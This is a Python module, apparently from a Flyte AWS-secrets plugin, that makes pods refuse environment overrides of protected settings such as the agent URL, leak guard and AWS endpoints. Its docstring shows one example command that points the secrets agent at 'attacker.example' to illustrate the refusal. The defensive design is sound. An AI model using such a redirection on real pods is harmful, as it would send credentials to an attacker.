"""Which source a setting may come from: in a pod, what decides where values go is the image's alone.

A pod's environment is written by the task template (``environment=``) and by whoever launches an
execution (``envs``): user input. Settings that decide where credentials, tokens or values may go, or that
turn a protection off, are therefore taken in a pod only from a source the image owns; a container
environment value that differs from the image's is refused with
:class:`~flytekitplugins_awssecrets.errors.UntrustedSettingError`, naming the setting, before user code runs
and before any request is sent. Local runs (``pyflyte run``, scripts, ``serve``, the CLI) are unchanged.

* **A pod** is a process whose entry point is flytekit's container entry point (``pyflyte-execute``,
  ``pyflyte-fast-execute``, ``pyflyte-map-execute``, ``python -m flytekit.bin.entrypoint``, or Flyte 2's
  ``a0``): the
  command line, which a launcher cannot change, and not an environment variable, which it can.
* **The image's settings file** is found at a fixed place, never through a variable: the first of
  ``<sys.prefix>/etc/flyte/aws-secrets.yaml`` (the image's Python installation or virtualenv) and
  ``/etc/flyte/aws-secrets.yaml``. It has the same format as any settings file (see :mod:`settings`).
* **Protected** (:data:`PROTECTED`): ``agent_url``, ``agent_token_file``, ``agent_allow_non_loopback``,
  ``agent_fallback``, ``mount_dir``, ``allow_disk_mount``, ``leak_guard``, ``allow_opaque_outputs``,
  ``redact_logs``, ``leak_guard_json_leaves`` and ``descriptive_json_keys`` (they decide which JSON fields
  the guard and redaction look for),
  ``trusted_endpoints``, ``webhook_dir``, ``cluster_mode`` and ``cluster_modes`` (where a webhook-served
  value is read from, and which requests are webhook-served); the settings file path (``FLYTE_AWS_SECRETS_CONFIG`` may only name
  the image's file); and botocore's endpoint overrides (``AWS_ENDPOINT_URL``, ``AWS_ENDPOINT_URL_<SERVICE>``),
  accepted only for a loopback host (a sidecar in the pod's own network namespace) or an origin the image
  file lists in ``trusted_endpoints``.

Example (in a pod)::

    FLYTE_AWS_SECRETS_AGENT_URL=http://attacker.example:80 pyflyte-execute ...
    # UntrustedSettingError: setting 'agent_url' (from env var FLYTE_AWS_SECRETS_AGENT_URL): ...
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

# settings.py imports this module only inside load_settings, so this import is not circular at load time.
from flytekitplugins_awssecrets.settings import _is_loopback as is_loopback

__all__ = ["PROTECTED", "POD_ENTRYPOINTS", "running_in_pod", "image_config_path", "check_pod_sources"]

#: Settings fields a pod takes only from the image's settings file (or the default).
PROTECTED = (
    "agent_url",
    "agent_token_file",
    "agent_allow_non_loopback",
    "agent_fallback",
    "mount_dir",
    "allow_disk_mount",
    "leak_guard",
    "allow_opaque_outputs",
    "redact_logs",
    "leak_guard_json_leaves",
    "descriptive_json_keys",
    "trusted_endpoints",
    # The quota guard of refreshes: a launcher could otherwise claim a fleet of one and refresh every second.
    "refresh_fleet_pods",
    # Where (and for which requests) a value is read from a file instead of AWS: a launcher who could point
    # webhook_dir at a directory it fills (input files) would hand the task values of its choosing.
    "webhook_dir",
    "cluster_mode",
    "cluster_modes",
)
#: Commands that run a task in a container (their file name).
#: ``pyflyte-awssecrets-execute`` and ``flyte-awssecrets-a0`` are what registration puts in front of them (see
#: :mod:`podguard` and :mod:`flyte2.pod`).
POD_ENTRYPOINTS = frozenset(
    {
        "pyflyte-execute",
        "pyflyte-fast-execute",
        "pyflyte-map-execute",
        "a0",
        "pyflyte-awssecrets-execute",
        "flyte-awssecrets-a0",
    }
)
#: Where an image bakes its settings file, relative to the Python prefix and to the root.
IMAGE_CONFIG = Path("etc") / "flyte" / "aws-secrets.yaml"


def running_in_pod(argv: list[str] | None = None) -> bool:
    """True when this process is flytekit's container entry point (what a pod runs)."""
    args = sys.argv if argv is None else argv
    if not args:
        return False
    first = Path(args[0])
    if first.name in POD_ENTRYPOINTS:
        return True
    main = sys.modules.get("__main__")
    spec = getattr(main, "__spec__", None)
    return getattr(spec, "name", None) == "flytekit.bin.entrypoint" or first.parts[-3:] == (
        "flytekit",
        "bin",
        "entrypoint.py",
    )


def image_config_path() -> Path | None:
    """The image's settings file, if it has one (the first of the fixed places that exists)."""
    for path in (Path(sys.prefix) / IMAGE_CONFIG, Path("/") / IMAGE_CONFIG):
        if path.is_file():
            return path
    return None


def origin(url: str) -> str:
    """``scheme://host:port`` of a URL (the port made explicit), for comparing endpoints."""
    u = urlsplit(url.strip())
    port = u.port or (443 if u.scheme == "https" else 80)
    return f"{u.scheme}://{(u.hostname or '').lower()}:{port}"


def check_pod_sources(
    environ: dict[str, str],
    env_fields: dict[str, Any],
    image_fields: dict[str, Any],
    image_path: Path | None,
    config_env: str,
    env_prefix: str,
) -> None:
    """Refuse, in a pod, a container environment value that would change a protected setting.

    ``env_fields`` are the settings read from ``environ``, ``image_fields`` those of the image's file
    (``image_path``). A protected field set in the environment to the value the image gives it (or its
    default) changes nothing and is accepted; any other value is refused.
    """
    from flytekitplugins_awssecrets.errors import UntrustedSettingError
    from flytekitplugins_awssecrets.settings import Settings

    where = str(image_path) if image_path else f"{Path(sys.prefix) / IMAGE_CONFIG} or /{IMAGE_CONFIG}"
    named = environ.get(config_env)
    if named and (image_path is None or Path(named).resolve() != image_path.resolve()):
        raise UntrustedSettingError("config", f"env var {config_env}", where)
    defaults = Settings.model_fields
    for name in PROTECTED:
        if name not in env_fields:
            continue
        image_value = image_fields.get(name, defaults[name].get_default(call_default_factory=True))
        if not _same(env_fields[name], image_value):
            raise UntrustedSettingError(name, f"env var {env_prefix}{name.upper()}", where)
    trusted = {origin(u) for u in (image_fields.get("trusted_endpoints") or ())}
    for var in sorted(environ):
        if var == "AWS_ENDPOINT_URL" or var.startswith("AWS_ENDPOINT_URL_"):
            url = environ[var]
            host = urlsplit(url.strip()).hostname or ""
            if url.strip() and not is_loopback(host) and origin(url) not in trusted:
                raise UntrustedSettingError("trusted_endpoints", f"env var {var}", where, endpoint=True)


def _same(env_value: Any, image_value: Any) -> bool:
    """Whether an environment value (text, or parsed JSON) means the image's value."""
    if isinstance(image_value, bool):
        words = ("true", "1", "yes", "on", "t", "y") if image_value else ("false", "0", "no", "off", "f", "n")
        return str(env_value).strip().lower() in words
    if image_value is None:
        return False
    if isinstance(image_value, dict):
        return isinstance(env_value, dict) and {str(k): str(v) for k, v in env_value.items()} == {
            str(k): str(v) for k, v in image_value.items()
        }
    if isinstance(image_value, list | tuple):
        given = env_value if isinstance(env_value, list | tuple) else [env_value]
        return [str(v) for v in given] == [str(v) for v in image_value]
    return str(env_value).strip().rstrip("/") == str(image_value).strip().rstrip("/")
